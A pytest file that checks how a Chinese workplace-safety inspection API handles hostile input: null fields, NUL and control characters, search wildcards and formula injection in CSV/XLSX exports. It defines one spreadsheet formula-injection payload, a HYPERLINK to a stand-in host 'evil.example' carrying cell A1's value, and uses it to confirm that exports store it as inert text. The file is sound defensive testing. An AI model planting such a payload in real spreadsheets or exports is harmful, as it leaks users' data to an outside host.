"""Hostile input answered with a clear 4xx in Chinese, never a 500 (issue 15): nulls in updates, control
characters and formulas in exports, visits no one could submit, wildcards in search.

Out-of-range numbers and dates: tests/server/test_bounded_input.py; the whole API fuzzed: test_schemathesis.py.
"""

import csv
import io
import uuid

import pytest
from openpyxl import load_workbook

from tests import factories

API = "/api/v1"
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


# --- nulls in partial updates ------------------------------------------------------------------------------

@pytest.mark.parametrize("field", ["credit_code", "name", "street", "risk_class", "contact_phone", "dust_involved"])
def test_null_for_a_field_that_cannot_be_empty_is_422(client, world, field):
    response = client.patch(f"{API}/enterprises/{world.enterprise_a.id}", json={field: None},
                            headers=world.headers("office"))
    assert response.status_code == 422, response.text
    error = response.json()["error"]
    assert error["message"] == "请求数据不合法 / invalid request"
    assert [p["loc"] for p in error["details"]] == [["body", field]]


def test_null_clears_a_field_that_may_be_empty(client, world):
    response = client.patch(f"{API}/enterprises/{world.enterprise_a.id}", json={"latitude": None, "longitude": None},
                            headers=world.headers("office"))
    assert response.status_code == 200, response.text
    assert (response.json()["latitude"], response.json()["longitude"]) == (None, None)


def test_omitted_fields_stay_as_they_are(client, world):
    response = client.patch(f"{API}/enterprises/{world.enterprise_a.id}", json={"street": "河海街道"},
                            headers=world.headers("office"))
    assert response.status_code == 200, response.text
    assert (response.json()["street"], response.json()["name"]) == ("河海街道", world.enterprise_a.name)


@pytest.mark.parametrize("who", ["enterprise_a", "office"])
def test_contact_update_with_a_null_phone_is_422(client, world, who):
    response = client.patch(f"{API}/enterprises/{world.enterprise_a.id}/contact",
                            json={"contact_name": "", "contact_phone": None}, headers=world.headers(who))
    assert response.status_code == 422, response.text
    assert [p["loc"] for p in response.json()["error"]["details"]] == [["body", "contact_phone"]]


def test_contact_update_with_empty_strings_clears_them(client, world):
    response = client.patch(f"{API}/enterprises/{world.enterprise_a.id}/contact",
                            json={"contact_name": "", "contact_phone": ""}, headers=world.headers("enterprise_a"))
    assert response.status_code == 200, response.text
    assert (response.json()["contact_name"], response.json()["contact_phone"]) == ("", "")


# --- exports: control characters and formulas --------------------------------------------------------------

def _hazard_at(client, world, session, enterprise):
    photo = factories.make_photo(session, world.users["inspector"])
    session.commit()
    visit = client.post(f"{API}/visits", json={"enterprise_id": enterprise.id,
                                               "inspector_ids": [world.users["inspector2"].id]},
                        headers=world.headers("inspector")).json()
    sections = client.get(f"{API}/visits/{visit['id']}/checklist", headers=world.headers("inspector")).json()
    codes = [i["code"] for s in sections["sections"] for i in s["items"]]
    results = [{"item_code": c, "result": "fail", "photo_ids": [photo.id]} if i == 0 else
               {"item_code": c, "result": "pass"} for i, c in enumerate(codes)]
    out = client.post(f"{API}/visits/{visit['id']}/submissions",
                      json={"client_uuid": str(uuid.uuid4()), "results": results}, headers=world.headers("inspector"))
    assert out.status_code == 201, out.text


@pytest.fixture()
def evil_street(client, world, session):
    """Enterprise A's street is a formula, then a hazard is found there (hazards keep the street they had)."""
    response = client.patch(f"{API}/enterprises/{world.enterprise_a.id}", json={"street": EVIL},
                            headers=world.headers("office"))
    assert response.status_code == 200, response.text
    _hazard_at(client, world, session, world.enterprise_a)


def _export(client, world, fmt, **params):
    response = client.get(f"{API}/stats/closure", params={"format": fmt, **params}, headers=world.headers("office"))
    assert response.status_code == 200, response.text
    return response.content


def test_csv_export_neutralises_a_formula_in_a_street(client, world, evil_street):
    rows = list(csv.reader(io.StringIO(_export(client, world, "csv", group_by="street").decode("utf-8-sig"))))
    streets = [row[0] for row in rows[1:-1]]
    assert streets == ["'" + EVIL]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def test_xlsx_export_stores_a_formula_in_a_street_as_text(client, world, evil_street):
    book = load_workbook(io.BytesIO(_export(client, world, "xlsx", group_by="street", street=[EVIL, "+1"])))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert book["统计"]["A2"].value == "'" + EVIL
    assert book["统计"]["A2"].data_type == "s"
    filters = next(row[1].value for row in book["指标口径"].iter_rows() if row[0].value == "筛选 / filters")
    assert filters == f"street={EVIL},+1"


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_control_characters_in_a_filter_are_dropped_from_the_export(client, world, fmt):
    response = client.get(f"{API}/stats/closure?format={fmt}&street=%01x&street=%1b%7f%0b",
                          headers=world.headers("office"))
    assert response.status_code == 200, response.text
    if fmt == "xlsx":
        book = load_workbook(io.BytesIO(response.content))
        filters = next(row[1].value for row in book["指标口径"].iter_rows() if row[0].value == "筛选 / filters")
        assert filters == "street=x,\x7f"


def test_a_street_with_control_characters_exports(client, world, session):
    client.patch(f"{API}/enterprises/{world.enterprise_a.id}", json={"street": "三井\x01街道\x1f"},
                 headers=world.headers("office"))
    _hazard_at(client, world, session, world.enterprise_a)
    book = load_workbook(io.BytesIO(_export(client, world, "xlsx", group_by="street")))
    assert book["统计"]["A2"].value == "三井街道"


# --- visits no one could submit ----------------------------------------------------------------------------

@pytest.mark.parametrize("kinds", [["DUST"], ["GAS"], ["DUST", "GAS"]])
def test_a_visit_whose_kinds_ask_nothing_is_refused(client, world, kinds):
    """A tenant of the plant site, with neither dust nor gas. Before: 201 with an empty checklist, and
    every submission then failed (409) forever."""
    tenant = world.tenants[1]
    response = client.post(f"{API}/visits", json={"enterprise_id": tenant.id, "kinds": kinds},
                           headers=world.headers("inspector"))
    assert response.status_code == 422, response.text
    error = response.json()["error"]
    assert error["code"] == "no_checklist"
    assert error["details"] == {"applicable_kinds": ["FCZ"]}


def test_a_joint_visit_whose_kinds_ask_nothing_is_refused(client, world):
    body = {"enterprise_id": world.enterprise_b.id,
            "departments": [{"department_id": world.safety.id, "kinds": ["DUST"]},
                            {"department_id": world.fire.id, "kinds": ["FCZ"]}]}
    response = client.post(f"{API}/visits", json=body, headers=world.headers("office"))
    assert response.status_code == 422, response.text
    assert response.json()["error"]["code"] == "no_checklist"


def test_a_task_whose_kinds_ask_nothing_is_refused(client, world):
    body = {"enterprise_id": world.enterprise_b.id, "kinds": ["DUST"], "window_start": "2030-01-01",
            "window_end": "2030-01-31"}
    response = client.post(f"{API}/tasks", json=body, headers=world.headers("inspector"))
    assert response.status_code == 422, response.text
    assert response.json()["error"]["code"] == "no_checklist"


@pytest.mark.parametrize("path", ["submissions", "corrections"])
def test_an_empty_submission_is_422(client, world, path):
    visit = client.post(f"{API}/visits", json={"enterprise_id": world.enterprise_a.id},
                        headers=world.headers("inspector")).json()
    response = client.post(f"{API}/visits/{visit['id']}/{path}",
                           json={"client_uuid": str(uuid.uuid4()), "results": []}, headers=world.headers("inspector"))
    assert response.status_code == 422, response.text
    assert [p["loc"] for p in response.json()["error"]["details"]] == [["body", "results"]]


# --- search wildcards --------------------------------------------------------------------------------------

@pytest.mark.parametrize("q", ["_", "%", "__", "%%", "/", "\\", "甲_", "%铝%"])
def test_search_wildcards_are_literal(client, world, q):
    response = client.get(f"{API}/enterprises", params={"q": q}, headers=world.headers("office"))
    assert response.status_code == 200, response.text
    assert response.json()["total"] == 0


def test_search_finds_names_with_wildcard_characters(client, world, session):
    factories.make_enterprise(session, name="丁_100%合金/厂")
    session.commit()
    for q in ("_", "100%", "%合", "/厂", "丁_1"):
        names = [e["name"] for e in client.get(f"{API}/enterprises", params={"q": q},
                                               headers=world.headers("office")).json()["items"]]
        assert names == ["丁_100%合金/厂"], q
    assert client.get(f"{API}/enterprises", params={"q": "铝"}, headers=world.headers("office")).json()["total"] == 1


# --- NUL characters (PostgreSQL text cannot hold them: a DataError, so a 500, there) -------------------------

@pytest.mark.parametrize("path", ["/enterprises?q=%00", "/enterprises?street=a%00b", "/stats/closure?street=%00",
                                  "/photos/verify/A%00", "/qr/x%00y", "/admin/jobs/sweep%00/run"])
def test_a_nul_in_the_url_is_422(client, world, path):
    method = client.post if path.endswith("/run") else client.get
    response = method(f"{API}{path}", headers=world.headers("office"))
    assert response.status_code == 422, response.text
    assert response.json()["error"]["message"].startswith("请求中不能含有空字符 (NUL) / ")


@pytest.mark.parametrize(("method", "path", "body"), [
    ("patch", "/enterprises/{a}", {"street": "三井\x00街道"}),
    ("patch", "/enterprises/{a}/contact", {"contact_name": "\x00"}),
    ("post", "/webhooks", {"url": "https://example.org/hook", "event_types": ["hazard.opened\x00"]}),
    ("post", "/visits/1/submissions", {"client_uuid": str(uuid.uuid4()),
                                       "results": [{"item_code": "DUST-1", "result": "pass", "note": "\x00"}]}),
])
def test_a_nul_in_a_json_body_is_422(client, world, method, path, body):
    response = getattr(client, method)(f"{API}{path.format(a=world.enterprise_a.id)}", json=body,
                                       headers=world.headers("office"))
    assert response.status_code == 422, response.text
    messages = [p["message"] for p in response.json()["error"]["details"]]
    assert any("空字符 (NUL)" in m for m in messages), messages
